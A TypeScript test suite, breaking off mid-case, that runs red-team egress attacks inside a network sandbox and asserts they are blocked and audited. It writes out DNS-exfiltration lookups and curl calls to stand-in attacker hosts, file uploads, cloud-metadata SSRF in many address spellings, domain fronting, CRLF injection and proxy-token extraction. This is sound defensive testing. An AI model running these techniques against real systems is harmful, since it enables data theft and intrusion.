// Red-team cases 1–23 of research sandbox.md §4 (network and egress), against a real session:
// each workload tries the attack from inside `perimeter run`, host-side servers on loopback say
// whether anything arrived, and the audit spool must hold the decision that stopped it.

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, openSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import {
  BIN,
  DIRECT_FAILED,
  IS_ROOT,
  PROBE_SKIP,
  SANDBOX_PYTHON,
  SANDBOX_SKIP,
  SNIFF_SKIP,
  assertEndedNormally,
  assertNetworkDenied,
  assertNoLeak,
  assertStartLists,
  captureLookups,
  eventually,
  fixture,
  installProbe,
  isCaptureOn,
  networkEvents,
  origin,
  policyYaml,
  hostProbe,
  runSession,
  show,
  sniff,
  trap,
  udpTrap,
  unixTrap,
} from './sandbox-harness.js';

const skip = SANDBOX_SKIP;
const skipProbe = SANDBOX_SKIP || PROBE_SKIP;

/** The lines of rt.py's output for one attempt: `ARGS => RESULT`. */
function resultOf(stdout: string, args: string): string {
  const line = stdout.split('\n').find((l) => l.startsWith(`${args} => `));
  assert.ok(line !== undefined, `rt.py printed a result for "${args}":\n${stdout}`);
  return line.slice(args.length + 4);
}

/** A marker no resolver has seen: DNS packets carrying it can only come from this test. */
function marker(): string {
  return `rt${randomBytes(5).toString('hex')}`;
}

void test(
  'redteam-01 direct TCP bypassing the proxy reaches nothing: no route, or captured and denied by the proxy',
  { skip },
  async (t) => {
    const f = fixture(t);
    const server = await trap(t);
    const s = await runSession(
      f,
      [
        `curl -sS --max-time 3 --noproxy '*' http://1.1.1.1/; echo "curl=$?"`,
        'python3 rt.py tcp 1.1.1.1 443',
        'python3 rt.py tcp 1.1.1.1 22',
        `python3 rt.py tcp 127.0.0.1 ${server.port}`,
        `echo "interfaces: $(awk -F: 'NR>2 {gsub(/ /, "", $1); printf "%s ", $1}' /proc/net/dev)"`,
      ].join('\n'),
    );
    assert.match(s.stdout, /curl=(7|52|56)/, show(s));
    assert.match(resultOf(s.stdout, 'tcp 1.1.1.1 443'), DIRECT_FAILED);
    assert.match(
      resultOf(s.stdout, 'tcp 1.1.1.1 22'),
      /^(ENETUNREACH|ECONNREFUSED)$/,
      'other ports are never captured',
    );
    // The host's loopback is not the namespace's: nothing listens there.
    assert.equal(resultOf(s.stdout, `tcp 127.0.0.1 ${server.port}`), 'ECONNREFUSED');
    assert.match(s.stdout, /^interfaces: lo $/m);
    assert.equal(server.connections, 0, 'the host server heard nothing');
    assertEndedNormally(s);
    assertStartLists(s, 'network', 'loopback only');
    assertStartLists(s, 'namespaces', 'net');
    if (isCaptureOn(s)) {
      // Captured: decided by the proxy like any other connection, and the denial is logged.
      assertNetworkDenied(s, '1.1.1.1:80', /^Denied/);
      assertNetworkDenied(s, '1.1.1.1:443', /^Denied/);
    } else {
      assert.deepEqual(networkEvents(s, /1\.1\.1\.1/), [], 'without capture the proxy never sees it');
    }
    assert.deepEqual(networkEvents(s, '1.1.1.1:22'), [], 'port 22 never reached the proxy');
  },
);

void test(
  'redteam-02 IPv6 direct connects reach nothing and CONNECT to IPv6 loopback is denied',
  { skip },
  async (t) => {
    const f = fixture(t);
    const v6 = await trap(t, '::1');
    const v4 = await trap(t);
    const targets = [
      `[::1]:22`,
      `[::1]:${v6.port}`,
      `[0:0:0:0:0:0:0:1]:${v6.port}`,
      `[::ffff:127.0.0.1]:${v4.port}`,
    ];
    const s = await runSession(
      f,
      [
        'python3 rt.py tcp 2606:4700:4700::1111 443',
        `python3 rt.py tcp ::1 ${v6.port}`,
        ...targets.map((x) => `python3 rt.py connect '${x}'`),
      ].join('\n'),
    );
    assert.match(resultOf(s.stdout, 'tcp 2606:4700:4700::1111 443'), DIRECT_FAILED, show(s));
    assert.equal(resultOf(s.stdout, `tcp ::1 ${v6.port}`), 'ECONNREFUSED');
    for (const x of targets) assert.match(resultOf(s.stdout, `connect ${x}`), /^HTTP\/1\.1 403 .*loopback/);
    assert.equal(v6.connections + v4.connections, 0, 'no host server heard anything');
    assertEndedNormally(s);
    assertNetworkDenied(s, '[::1]:22', /::1 is loopback/);
    assertNetworkDenied(s, `[::1]:${v6.port}`, /loopback/);
    assertNetworkDenied(s, new RegExp(`:${v4.port}$`), /loopback/);
    if (isCaptureOn(s)) assertNetworkDenied(s, '[2606:4700:4700::1111]:443', /^Denied/);
  },
);

void test(
  'redteam-03 raw UDP (DNS, QUIC, any port) never leaves the host and the proxy relays no UDP',
  { skip },
  async (t) => {
    const f = fixture(t);
    const udp = await udpTrap(t);
    const secret = marker();
    const sniffer = SNIFF_SKIP === false ? await sniff(t, secret) : undefined;
    const sends = [`8.8.8.8 53 ${secret}`, `1.1.1.1 443 ${secret}`, `2001:4860:4860::8888 53 ${secret}`];
    const s = await runSession(
      f,
      [
        ...sends.map((x) => `python3 rt.py udp ${x}`),
        `python3 rt.py udp 127.0.0.1 ${udp.port} ${secret}`,
        // SOCKS5 UDP ASSOCIATE: the only way a datagram could reach the host proxy.
        'python3 rt.py socks 8.8.8.8 53 udp',
      ].join('\n'),
    );
    // Without capture there is no route; with it the local default route swallows the datagram.
    for (const x of sends) assert.match(resultOf(s.stdout, `udp ${x}`), /^(ENETUNREACH|SENT)$/, show(s));
    assert.equal(
      resultOf(s.stdout, `udp 127.0.0.1 ${udp.port} ${secret}`),
      'SENT',
      'the namespace loopback takes it',
    );
    assert.equal(
      resultOf(s.stdout, 'socks 8.8.8.8 53 udp'),
      'reply 07',
      'UDP ASSOCIATE: command not supported',
    );
    await new Promise((r) => setTimeout(r, 100));
    assert.equal(udp.datagrams, 0, 'the host UDP listener heard nothing');
    assertEndedNormally(s);
    assertStartLists(s, 'network', 'loopback only');
    // The only event is the refused UDP ASSOCIATE itself: nothing was allowed, no datagram relayed.
    assert.deepEqual(
      networkEvents(s, /8\.8\.8\.8|1\.1\.1\.1|2001:4860/).map((e) => [
        e.decision,
        e.decision_code,
        e.request?.resource,
      ]),
      [['deny', 'invalid-request', '8.8.8.8:53']],
      'no UDP reached the proxy but the refused UDP ASSOCIATE',
    );
    if (!sniffer) return t.diagnostic(`host packet capture skipped: ${String(SNIFF_SKIP)}`);
    assert.equal(await sniffer.stop(), 0, 'no datagram carrying the payload left the sandbox');
  },
);

void test(
  'redteam-04 DNS exfiltration by direct lookup sends no packet off the host',
  { skip },
  async (t) => {
    const f = fixture(t);
    const secret = marker();
    const capture = await captureLookups(t, secret);
    const name = `${secret}.attacker.invalid`;
    const s = await runSession(
      f,
      [
        `getent hosts ${name}; echo "getent=$?"`,
        `python3 rt.py resolve ${name}`,
        `python3 rt.py dns ${name}`,
        `curl -sS --max-time 3 --noproxy '*' http://${name}/; echo "curl=$?"`,
      ].join('\n'),
    );
    assert.match(s.stdout, /getent=2/, show(s));
    assert.equal(resultOf(s.stdout, `resolve ${name}`), 'gaierror');
    // No route to the resolver, or (with capture's local default route) a datagram nobody reads.
    assert.match(resultOf(s.stdout, `dns ${name}`), /^(ENETUNREACH|SENT to .*)$/);
    assert.match(s.stdout, /curl=6/, 'curl could not resolve the name');
    assertEndedNormally(s);
    assertStartLists(s, 'network', 'loopback only');
    assert.deepEqual(networkEvents(s, new RegExp(secret)), [], 'the proxy never saw the name either');
    if (!capture) return t.diagnostic(`host packet capture skipped: ${String(SNIFF_SKIP)}`);
    await capture.assertNothingLeft('no packet carrying the name left the sandbox');
  },
);

void test(
  'redteam-05 the proxy denies an unlisted name before any DNS lookup (HTTP, CONNECT, SOCKS5)',
  { skip },
  async (t) => {
    const f = fixture(t);
    const secret = marker();
    const capture = await captureLookups(t, secret);
    const s = await runSession(
      f,
      [
        `curl -sS -o /dev/null -w 'curl=%{http_code}\\n' https://${secret}-a.attacker.invalid/`,
        `python3 rt.py get GET http://${secret}-b.attacker.invalid/x`,
        `python3 rt.py socks ${secret}-c.attacker.invalid 443`,
      ].join('\n'),
    );
    assert.match(resultOf(s.stdout, `get GET http://${secret}-b.attacker.invalid/x`), /^HTTP\/1\.1 403/);
    assert.equal(resultOf(s.stdout, `socks ${secret}-c.attacker.invalid 443`), 'reply 02');
    assert.match(s.stderr, /CONNECT tunnel failed, response 403/, show(s));
    assertEndedNormally(s);
    assertNetworkDenied(s, `${secret}-a.attacker.invalid:443`, /^Denied/);
    assertNetworkDenied(s, `${secret}-b.attacker.invalid:80/x`, /^Denied/);
    assertNetworkDenied(s, `${secret}-c.attacker.invalid:443`, /^Denied/);
    if (!capture) return t.diagnostic(`host packet capture skipped: ${String(SNIFF_SKIP)}`);
    await capture.assertNothingLeft('the denied names were never looked up');
  },
);

void test(
  'redteam-06 L7 rules deny writes to an allowed shared host; lint flags multi-tenant hosts',
  { skip },
  async (t) => {
    const f = fixture(t);
    const o = await origin(t);
    const policy = policyYaml(f, {
      originPorts: [o.port],
      deny: [
        `{ id: no-uploads, cidrs: [127.0.0.1/32], ports: [${o.port}], methods: [POST, PUT, PATCH, DELETE] }`,
      ],
    });
    const base = `http://127.0.0.1:${o.port}`;
    const s = await runSession(
      f,
      [
        `curl -s -o /dev/null -w 'post=%{http_code}\\n' --noproxy '' -X POST --data-binary @rt.py ${base}/gists`,
        `curl -s -o /dev/null -w 'put=%{http_code}\\n' --noproxy '' -T README.md ${base}/bucket/loot`,
        `curl -s -o /dev/null -w 'get=%{http_code}\\n' --noproxy '' ${base}/repo/readme`,
      ].join('\n'),
      { policy },
    );
    assert.match(s.stdout, /post=403/, show(s));
    assert.match(s.stdout, /put=403/);
    assert.match(s.stdout, /get=200/, 'reading the allowed host still works');
    assert.deepEqual(
      o.heads.map((h) => h.split(' ')[0]),
      ['GET'],
      'only the GET reached the origin',
    );
    assertEndedNormally(s);
    const post = assertNetworkDenied(s, `127.0.0.1:${o.port}/gists`);
    assert.equal(post.type, 'network.post', 'the event records the method');
    assert.ok(post.matched?.some((m) => m.rule === 'no-uploads'));
    assert.equal(assertNetworkDenied(s, `127.0.0.1:${o.port}/bucket/loot`).type, 'network.put');
    const lint = spawnSync(process.execPath, [BIN, 'policy', 'lint', 'examples/balanced.yaml'], {
      cwd: join(BIN, '../../../..'),
      encoding: 'utf8',
    });
    assert.match(
      lint.stdout + lint.stderr,
      /"github\.com".*anyone can/,
      'lint warns that github.com is multi-tenant',
    );
  },
);

void test(
  'redteam-07 domain fronting: a ClientHello naming another host cuts the tunnel before upstream sees a byte',
  { skip },
  async (t) => {
    const f = fixture(t);
    const o = await origin(t);
    const s = await runSession(f, `python3 rt.py sni 127.0.0.1:${o.port} evil.example`, {
      policy: policyYaml(f, { originPorts: [o.port] }),
    });
    assert.match(resultOf(s.stdout, `sni 127.0.0.1:${o.port} evil.example`), /^CUT /, show(s));
    assert.ok(
      o.received.every((b) => b.length === 0),
      'the origin received no byte of the ClientHello',
    );
    assertEndedNormally(s);
    const cut = s.events.find((e) => e.type === 'network.fronting-refused');
    assert.ok(cut, 'a network.fronting-refused event');
    assert.equal(cut.outcome?.resource, `127.0.0.1:${o.port}`);
    assert.match(String(cut.outcome?.reason), /evil\.example/);
  },
);

void test(
  'redteam-08 an allowed name that resolves to loopback is refused after the lookup (pinned, never dialled)',
  { skip },
  async (t) => {
    const f = fixture(t);
    const server = await trap(t);
    const policy = policyYaml(f, {
      allow: ['{ id: localhost-any-port, hosts: [localhost], ports: ["1024-65535"] }'],
    });
    const s = await runSession(
      f,
      [
        `python3 rt.py connect localhost:${server.port}`,
        `python3 rt.py get GET http://localhost:${server.port}/`,
      ].join('\n'),
      { policy },
    );
    assert.match(
      resultOf(s.stdout, `connect localhost:${server.port}`),
      /^HTTP\/1\.1 403 .*loopback/,
      show(s),
    );
    assert.match(resultOf(s.stdout, `get GET http://localhost:${server.port}/`), /^HTTP\/1\.1 403/);
    assert.equal(server.connections, 0, 'the loopback server was never dialled');
    assertEndedNormally(s);
    const connects = networkEvents(s, `localhost:${server.port}`);
    assert.deepEqual(
      connects.map((e) => `${e.decision ?? ''}/${e.decision_code ?? ''}`),
      ['allow/rule', 'deny/guard'],
      'the name was allowed by the rule, then its address refused by the guard',
    );
    assert.match(connects[1]?.reason ?? '', /loopback/);
  },
);

void test(
  'redteam-09 loopback and metadata SSRF through the proxy, in every numeric spelling, is denied',
  { skip },
  async (t) => {
    const f = fixture(t);
    const server = await trap(t);
    const p = server.port;
    const targets = [
      `localhost:${p}`,
      `localhost.:${p}`,
      `LOCALHOST:${p}`,
      `127.0.0.1:${p}`,
      `127.1:${p}`,
      `0.0.0.0:${p}`,
      `2130706433:${p}`,
      `0x7f000001:${p}`,
      `0x7f.1:${p}`,
      `017700000001:${p}`,
      `[::ffff:127.0.0.1]:${p}`,
      `[::ffff:7f00:1]:${p}`,
      `[::7f00:1]:${p}`,
      `[::1]:${p}`,
      '169.254.169.254:80',
      '[fd00:ec2::254]:80',
      '[::ffff:169.254.169.254]:80',
    ];
    const s = await runSession(f, targets.map((x) => `python3 rt.py connect '${x}'`).join('\n'));
    for (const x of targets) assert.match(resultOf(s.stdout, `connect ${x}`), /^HTTP\/1\.1 (403|400) /, x);
    assert.equal(server.connections, 0, 'the host server was never dialled');
    assertEndedNormally(s);
    const denied = networkEvents(s, new RegExp(`:${p}$`));
    assert.ok(
      denied.every((e) => e.decision === 'deny'),
      'no spelling was allowed',
    );
    assert.ok(
      denied.length >= targets.length - 3,
      `every spelling was decided and audited (${denied.length})`,
    );
    assertNetworkDenied(s, '169.254.169.254:80', /metadata/);
    assertNetworkDenied(s, '[fd00:ec2::254]:80', /metadata/);
  },
);

void test(
  'redteam-09 in --mode audit the built-in guard still refuses loopback, metadata and private addresses',
  { skip },
  async (t) => {
    const f = fixture(t);
    const server = await trap(t);
    const targets = [
      `127.0.0.1:${server.port}`,
      `localhost:${server.port}`,
      '169.254.169.254:80',
      '10.0.0.1:443',
    ];
    const s = await runSession(f, targets.map((x) => `python3 rt.py connect ${x}`).join('\n'), {
      args: ['--mode', 'audit'],
    });
    for (const x of targets) assert.match(resultOf(s.stdout, `connect ${x}`), /^HTTP\/1\.1 403 /, x);
    assert.equal(server.connections, 0, 'the host server was never dialled');
    assertEndedNormally(s);
    assert.equal(s.events.find((e) => e.type === 'session.start')?.outcome?.mode, 'audit');
    assertNetworkDenied(s, `127.0.0.1:${server.port}`, /loopback/);
    assertNetworkDenied(s, '169.254.169.254:80', /metadata/);
    assertNetworkDenied(s, '10.0.0.1:443', /private/);
  },
);

void test('redteam-10 hostname normalisation games never get past a deny rule', { skip }, async (t) => {
  const f = fixture(t);
  const o = await origin(t);
  const attempts = [
    'get GET http://bad.allowed.test./',
    'get GET http://BAD.allowed.test/',
    'get GET http://bad.allowed.test:80/',
    'get GET http://Bad.Allowed.Test.:80/',
    'get GET http://good.allowed.test@bad.allowed.test/',
    'get GET http://bad%2eallowed.test/',
    'get GET http://bücher.allowed.test/',
    'get GET http://BÜCHER.allowed.test./',
    'get GET http://xn--bcher-kva.allowed.test/',
    'connect bad.allowed.test.:443',
    'connect BAD.ALLOWED.TEST:443',
    'socks bad.allowed.test. 443',
    'socks BAD.allowed.test 443',
  ];
  const hostHeader = `get GET http://127.0.0.1:${o.port}/hh bad.allowed.test`;
  const s = await runSession(f, [...attempts, hostHeader].map((a) => `python3 rt.py ${a}`).join('\n'), {
    policy: policyYaml(f, { originPorts: [o.port] }),
  });
  for (const a of attempts) assert.match(resultOf(s.stdout, a), /^(HTTP\/1\.1 40[03] |reply 02)/, a);
  // The target decides, not the Host header, and the origin gets the Host that was decided.
  assert.match(resultOf(s.stdout, hostHeader), /^HTTP\/1\.[01] 200/);
  assert.equal(o.heads.length, 1);
  assert.match(o.heads[0] ?? '', new RegExp(`^host: 127\\.0\\.0\\.1:${o.port}$`, 'im'));
  assertEndedNormally(s);
  for (const r of ['bad.allowed.test:80/', 'bad.allowed.test:443', 'xn--bcher-kva.allowed.test:80/']) {
    const e = assertNetworkDenied(s, r);
    assert.ok(
      e.matched?.some((m) => m.rule === 'bad-name'),
      `${r} is denied by rule bad-name`,
    );
  }
  assert.deepEqual(
    networkEvents(s, /bad\.allowed\.test|bcher/).filter((e) => e.decision !== 'deny'),
    [],
    'no spelling of the denied names was allowed',
  );
});

void test(
  'redteam-11 NUL, CR/LF and non-LDH bytes in a target are refused at parse time',
  { skip },
  async (t) => {
    const f = fixture(t);
    const socks = [
      String.raw`attacker.invalid\x00.allowed.test`,
      String.raw`allowed.test\r\nX-Injected: 1`,
      String.raw`bad$x.allowed.test`,
      String.raw`a b.allowed.test`,
    ];
    const http = [
      `connect 'bad$x.allowed.test:443'`,
      `connect 'attacker.invalid%00.allowed.test:443'`,
      `get GET 'http://attacker.invalid%00.allowed.test/'`,
    ];
    const s = await runSession(
      f,
      [...socks.map((h) => `python3 rt.py socks '${h}' 443`), ...http.map((a) => `python3 rt.py ${a}`)].join(
        '\n',
      ),
    );
    for (const h of socks) assert.equal(resultOf(s.stdout, `socks ${h} 443`), 'reply 02', h);
    for (const a of http) assert.match(resultOf(s.stdout, a.replace(/'/g, '')), /^HTTP\/1\.1 (400|403) /, a);
    assertEndedNormally(s);
    const nul = assertNetworkDenied(s, 'attacker.invalid\u0000.allowed.test:443', /control character/);
    assert.equal(nul.decision_code, 'invalid-request');
    assertNetworkDenied(s, 'allowed.test\r\nX-Injected: 1:443', /control character/);
    assert.equal(networkEvents(s, /allowed\.test/).filter((e) => e.decision === 'allow').length, 0);
    await t.test('audit: a target the HTTP front door cannot parse is an audited denial too', () => {
      // The same decision a SOCKS5 target with bad bytes gets: invalid-request, with the reason.
      const refused: readonly [string, RegExp][] = [
        ['bad$x.allowed.test:443', /not allowed in a host name/],
        ['attacker.invalid%00.allowed.test:443', /encoded control character/],
        ['attacker.invalid%00.allowed.test:80', /encoded control character/],
      ];
      for (const [resource, reason] of refused) {
        const e = assertNetworkDenied(s, resource, reason);
        assert.equal(e.decision_code, 'invalid-request', resource);
        assert.deepEqual(e.matched, [], `${resource}: no rule was consulted`);
      }
      assert.equal(
        networkEvents(s, /bad\$x|%00/).length,
        http.length + 1,
        'one event per HTTP refusal, and one for the SOCKS5 bad$x',
      );
    });
  },
);

void test(
  'redteam-12 a local relay and a CONNECT nested in an allowed tunnel reach nothing new',
  { skip },
  async (t) => {
    const f = fixture(t);
    const o = await origin(t);
    const hidden = await trap(t);
    const s = await runSession(
      f,
      [
        'TOKEN=$(echo "$HTTP_PROXY" | sed "s/.*perimeter:\\(.*\\)@.*/\\1/")',
        'python3 rt.py relay 9000',
        `curl -s -o /dev/null -w 'relay=%{http_code}\\n' --noproxy '' -x "http://perimeter:$TOKEN@127.0.0.1:9000" http://127.0.0.1:${hidden.port}/`,
        `curl -s -o /dev/null -w 'relay-allowed=%{http_code}\\n' --noproxy '' -x "http://perimeter:$TOKEN@127.0.0.1:9000" http://127.0.0.1:${o.port}/`,
        `python3 rt.py nested 127.0.0.1:${o.port} 127.0.0.1:${hidden.port}`,
      ].join('\n'),
      { policy: policyYaml(f, { originPorts: [o.port] }) },
    );
    assert.match(s.stdout, /relay=403/, show(s));
    assert.match(s.stdout, /relay-allowed=200/, 'the relay itself works: it is the proxy that refuses');
    // The proxy does not read inside an allowed tunnel: the inner CONNECT goes to the allowed host,
    // which is no proxy. An allowed host that *is* an open proxy is the residual risk of §4 case 12.
    assert.match(
      resultOf(s.stdout, `nested 127.0.0.1:${o.port} 127.0.0.1:${hidden.port}`),
      /^HTTP\/1\.1 200 .* \/ inner: HTTP\/1\.0 200 OK/,
    );
    assert.ok(
      o.heads.some((h) => h.startsWith(`CONNECT 127.0.0.1:${hidden.port} `)),
      'the origin got the inner CONNECT',
    );
    assert.equal(hidden.connections, 0, 'the hidden server was never reached');
    assertEndedNormally(s);
    assertNetworkDenied(s, `127.0.0.1:${hidden.port}/`, /loopback/);
    assert.equal(
      networkEvents(s, `127.0.0.1:${o.port}`).filter((e) => e.type === 'network.connect').length,
      1,
      'the outer tunnel was decided once, on its own authority',
    );
  },
);

void test(
  'redteam-13 the proxy is not borrowable: no token is refused, and the sockets are 0600 in a 0700 directory',
  { skip },
  async (t) => {
    const f = fixture(t);
    const o = await origin(t);
    const running = runSession(
      f,
      [
        `python3 rt.py connect 127.0.0.1:${o.port} notoken`,
        `python3 rt.py connect 127.0.0.1:${o.port} badtoken`,
        `python3 rt.py socks 127.0.0.1 ${o.port} noauth`,
        `python3 rt.py socks 127.0.0.1 ${o.port} badtoken`,
        'echo "session-token=$(echo "$HTTP_PROXY" | sed "s/.*perimeter:\\(.*\\)@.*/\\1/")"',
        'for i in $(seq 100); do [ -e host-done ] && break; sleep 0.05; done',
      ].join('\n'),
      { policy: policyYaml(f, { originPorts: [o.port] }) },
    );
    const sessionDir = (): string | undefined =>
      readdirSync(f.runtime)
        .filter((n) => n.startsWith('perimeter-'))
        .map((n) => join(f.runtime, n))[0];
    // Both sockets: the proxies bind them one after the other (waiting for the first alone made
    // the SOCKS socket's stat race its bind on a loaded machine).
    assert.ok(
      await eventually(
        () =>
          sessionDir() !== undefined &&
          ['http.sock', 'socks.sock'].every((n) => existsSync(join(sessionDir() ?? '', 'sockets', n))),
      ),
    );
    const dir = sessionDir() ?? '';
    assert.equal(statSync(dir).mode & 0o777, 0o700, 'the session directory is 0700');
    assert.equal(statSync(join(dir, 'sockets')).mode & 0o777, 0o700, 'the socket directory is 0700');
    for (const n of ['http.sock', 'socks.sock'])
      assert.equal(statSync(join(dir, 'sockets', n)).mode & 0o777, 0o600, `${n} is 0600`);
    let asNobody: string | undefined;
    if (IS_ROOT && existsSync('/usr/bin/setpriv')) {
      // Another host user (nobody) tries the proxy's socket directly.
      const r = spawnSync(
        'setpriv',
        [
          '--reuid=65534',
          '--regid=65534',
          '--clear-groups',
          SANDBOX_PYTHON,
          '-c',
          `import socket,errno\ns=socket.socket(socket.AF_UNIX)\ntry:\n  s.connect(${JSON.stringify(join(dir, 'sockets/http.sock'))}); print('CONNECTED')\nexcept OSError as e: print(errno.errorcode[e.errno])`,
        ],
        { encoding: 'utf8' },
      );
      asNobody = r.stdout.trim();
    }
    writeFileSync(join(f.workspace, 'host-done'), '');
    const s = await running;
    assert.match(resultOf(s.stdout, `connect 127.0.0.1:${o.port} notoken`), /^HTTP\/1\.1 407 /, show(s));
    assert.match(resultOf(s.stdout, `connect 127.0.0.1:${o.port} badtoken`), /^HTTP\/1\.1 407 /);
    assert.equal(
      resultOf(s.stdout, `socks 127.0.0.1 ${o.port} noauth`),
      'method 05ff',
      'no acceptable method',
    );
    assert.equal(
      resultOf(s.stdout, `socks 127.0.0.1 ${o.port} badtoken`),
      'auth 0101',
      'authentication failed',
    );
    assert.equal(o.connections, 0, 'nothing was dialled without the token');
    if (asNobody !== undefined) assert.equal(asNobody, 'EACCES', 'another host user cannot reach the socket');
    else t.diagnostic('the other-user check needs root and setpriv: skipped');
    assertEndedNormally(s);
    await t.test('audit: refusals for a missing or wrong token are audited', () => {
      const refused = s.events.filter((e) => e.request?.surface === 'network');
      assert.deepEqual(
        refused.map((e) => [e.type, e.decision, e.decision_code, e.request?.resource]),
        [
          ['network.connect', 'deny', 'unauthenticated', `127.0.0.1:${o.port}`],
          ['network.connect', 'deny', 'unauthenticated', `127.0.0.1:${o.port}`],
          ['network.connect', 'deny', 'unauthenticated', 'socks5'],
          ['network.connect', 'deny', 'unauthenticated', 'socks5'],
        ],
        'the four refusals, in order, and nothing decided by policy',
      );
      assert.match(refused[0]?.reason ?? '', /carries no session token/);
      assert.match(refused[1]?.reason ?? '', /not the session's/);
      assert.match(refused[2]?.reason ?? '', /offered no username\/password/);
      assert.match(refused[3]?.reason ?? '', /password is not the session token/);
      // Never the value offered ("wrong", also as the Basic credentials), nor the session's own.
      const token = /^session-token=(.+)$/m.exec(s.stdout)?.[1] ?? '';
      assert.ok(token.length >= 16, `the workload saw the session token:\n${s.stdout}`);
      assert.ok(!s.spool.includes(token), 'the session token is nowhere in the spool');
      const text = JSON.stringify(refused);
      assert.doesNotMatch(text, /wrong/i);
      assert.ok(!text.includes(Buffer.from('perimeter:wrong').toString('base64')));
    });
  },
);

void test(
  'redteam-13 a workload hammering the proxy without the token: 20 refusals written, the rest counted and reported before session.end',
  { skip },
  async (t) => {
    const f = fixture(t);
    const o = await origin(t);
    // 25 CONNECTs without the token in one burst; the session ends right after, inside the
    // window that counted the last 5, whose own report would come a second later.
    const burst = [
      'import socket',
      'for i in range(25):',
      '    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)',
      `    s.sendall(b"CONNECT 127.0.0.1:${o.port} HTTP/1.1\\r\\n\\r\\n")`,
      '    print("burst => " + s.recv(100).split(b"\\r\\n")[0].decode(), flush=True)',
      '    s.close()',
    ].join('\n');
    const s = await runSession(f, `python3 - <<'EOF'\n${burst}\nEOF`, {
      policy: policyYaml(f, { originPorts: [o.port] }),
    });
    const replies = s.stdout.split('\n').filter((l) => l.startsWith('burst => '));
    assert.equal(replies.length, 25, show(s));
    for (const r of replies) assert.match(r, /^burst => HTTP\/1\.1 407 /);
    assert.equal(o.connections, 0, 'nothing was dialled without the token');
    assertEndedNormally(s);
    const written = s.events.filter((e) => e.decision_code === 'unauthenticated');
    const summaries = s.events.filter((e) => e.type === 'network.refusals-suppressed');
    assert.ok(written.length >= 20, `the first 20 are written (${written.length})`);
    assert.ok(summaries.length >= 1, 'the refusals counted are reported');
    const counted = summaries.reduce((n, e) => n + Number(e.outcome?.suppressed ?? 0), 0);
    assert.equal(written.length + counted, 25, 'every refusal is written or counted, none lost');
    assert.equal(summaries.at(-1)?.outcome?.limit_per_second, 20);
    const types = s.events.map((e) => e.type);
    assert.ok(
      types.lastIndexOf('network.refusals-suppressed') < types.indexOf('session.end'),
      'the count is reported before the session ends',
    );
  },
);

void test(
  'redteam-14 the control plane on host loopback is unreachable, directly and through the proxy',
  { skip },
  async (t) => {
    const f = fixture(t);
    const admin = await trap(t);
    const a = admin.port;
    const s = await runSession(
      f,
      [
        `python3 rt.py tcp 127.0.0.1 ${a}`,
        `python3 rt.py connect 127.0.0.1:${a}`,
        `python3 rt.py get POST http://127.0.0.1:${a}/v1/policy/approve`,
        `python3 rt.py socks 127.0.0.1 ${a}`,
        // The session's own proxy sockets are mounted (read-only) for the bridge; the workload
        // cannot open a Unix socket at all.
        'python3 rt.py unix /run/perimeter/sockets/http.sock',
      ].join('\n'),
    );
    assert.equal(resultOf(s.stdout, `tcp 127.0.0.1 ${a}`), 'ECONNREFUSED', show(s));
    assert.match(resultOf(s.stdout, `connect 127.0.0.1:${a}`), /^HTTP\/1\.1 403 /);
    assert.match(resultOf(s.stdout, `get POST http://127.0.0.1:${a}/v1/policy/approve`), /^HTTP\/1\.1 403 /);
    assert.equal(resultOf(s.stdout, `socks 127.0.0.1 ${a}`), 'reply 02');
    assert.equal(resultOf(s.stdout, 'unix /run/perimeter/sockets/http.sock'), 'EPERM');
    assert.equal(admin.connections, 0, 'the admin server heard nothing');
    assertEndedNormally(s);
    const denials = networkEvents(s, new RegExp(`127\\.0\\.0\\.1:${a}`));
    assert.equal(denials.length, 3);
    for (const e of denials) {
      assert.equal(e.decision, 'deny');
      assert.equal(
        e.decision_code,
        'guard',
        'refused by the built-in guard, which no policy lifts by accident',
      );
    }
  },
);

void test(
  'redteam-15 port smuggling on an allowed host is denied: the port is part of the rule',
  { skip },
  async (t) => {
    const f = fixture(t);
    const attempts = [
      'connect allowed.test:22',
      'connect api.allowed.test:25',
      'connect api.allowed.test:6379',
      'get GET http://allowed.test:8080/',
      'socks allowed.test 22',
    ];
    const s = await runSession(f, attempts.map((a) => `python3 rt.py ${a}`).join('\n'));
    for (const a of attempts.slice(0, 4)) assert.match(resultOf(s.stdout, a), /^HTTP\/1\.1 403 /, a);
    assert.equal(resultOf(s.stdout, 'socks allowed.test 22'), 'reply 02');
    assertEndedNormally(s);
    for (const r of ['allowed.test:22', 'api.allowed.test:25', 'api.allowed.test:6379', 'allowed.test:8080/'])
      assertNetworkDenied(s, r, /^Denied/);
  },
);

void test('redteam-16 an abstract Unix socket on the host is unreachable', { skip: skipProbe }, async (t) => {
  const f = fixture(t);
  const name = `perimeter-rt-${randomBytes(4).toString('hex')}`;
  const listener = await unixTrap(t, `\0${name}`);
  installProbe(f);
  const s = await runSession(f, [`python3 rt.py unix @${name}`, './probe socket-unix'].join('\n'));
  assert.equal(resultOf(s.stdout, `unix @${name}`), 'EPERM', show(s));
  assert.match(s.stdout, /socket-unix: FAIL EPERM/);
  assert.equal(listener.connections, 0, 'the host listener heard nothing');
  assertEndedNormally(s, 1);
  assertStartLists(s, 'seccomp', 'socket(AF_UNIX)');
  assertStartLists(s, 'namespaces', 'net');
});

void test(
  'redteam-17 pathname Unix sockets (docker, ssh-agent, D-Bus) are unreachable and /run is empty',
  { skip },
  async (t) => {
    const f = fixture(t);
    const xdg = join(f.root, 'xdg');
    const docker = await unixTrap(t, join(f.workspace, 'docker.sock'));
    const agent = await unixTrap(t, join(f.home, 'agent.sock'));
    spawnSync('mkdir', ['-p', xdg]);
    const bus = await unixTrap(t, join(xdg, 'bus'));
    const s = await runSession(
      f,
      [
        `echo "leaked: $(env | grep -c -E '^(SSH_AUTH_SOCK|XDG_RUNTIME_DIR|DBUS_SESSION_BUS_ADDRESS)=')"`,
        `python3 rt.py unix ${join(f.workspace, 'docker.sock')}`,
        `python3 rt.py unix ${join(f.home, 'agent.sock')}`,
        `python3 rt.py unix ${join(xdg, 'bus')}`,
        'echo "run: $(ls -A /run | tr "\\n" " ")"',
        'ls -d /var/run /tmp/.X11-unix 2>&1',
      ].join('\n'),
      {
        env: {
          SSH_AUTH_SOCK: join(f.home, 'agent.sock'),
          XDG_RUNTIME_DIR: xdg,
